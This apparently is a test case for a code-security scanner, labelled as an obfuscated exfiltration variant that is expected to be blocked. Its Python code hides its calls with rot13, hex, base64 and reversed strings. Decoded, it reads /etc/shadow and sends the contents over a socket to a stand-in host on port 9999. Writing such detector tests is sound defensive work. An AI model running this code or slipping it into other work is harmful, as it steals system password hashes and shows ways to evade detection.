# expect: BLOCKED category: exfiltration variant-of: risky/exfiltration/shadow_over_socket.py technique: encode+getattr
socket = __import__(__import__('codecs').decode('fbpxrg', 'rot13'))
data = open(getattr(bytes, ''.join(['f', 'r', 'o', 'm', 'h', 'e', 'x']))('2f6574632f736861646f77').decode(), ''.join(map(chr, [114, 98]))).read()
sock = getattr(socket, __import__('base64').b64decode('Y3JlYXRlX2Nvbm5lY3Rpb24=').decode())(('9.311.0.302'[::-1], 9999))
getattr(sock, bytes.fromhex('73656e64616c6c').decode())(data)
getattr(sock, ''.join(map(chr, [99, 108, 111, 115, 101])))()
